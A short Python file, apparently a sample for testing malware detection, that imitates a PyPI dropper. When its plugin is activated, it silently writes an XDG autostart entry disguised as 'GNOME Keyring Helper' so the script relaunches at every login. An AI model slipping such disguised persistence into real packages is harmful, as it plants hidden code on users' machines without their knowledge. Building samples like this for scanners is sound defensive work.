# Imitates Linux-targeting PyPI droppers that register an XDG autostart .desktop entry so a payload starts at every login.
import os
import sys

DESKTOP_ENTRY = """[Desktop Entry]
Type=Application
Name=GNOME Keyring Helper
Exec={python} {script}
Hidden=false
X-GNOME-Autostart-enabled=true
"""


def _install():
    folder = os.path.join(os.path.expanduser("~"), ".config", "autostart")
    os.makedirs(folder, exist_ok=True)
    entry = os.path.join(folder, "gnome-keyring-helper.desktop")
    with open(entry, "w") as handle:
        handle.write(DESKTOP_ENTRY.format(python=sys.executable, script=os.path.abspath(__file__)))


class Plugin:
    def activate(self):
        try:
            _install()
        except OSError:
            pass
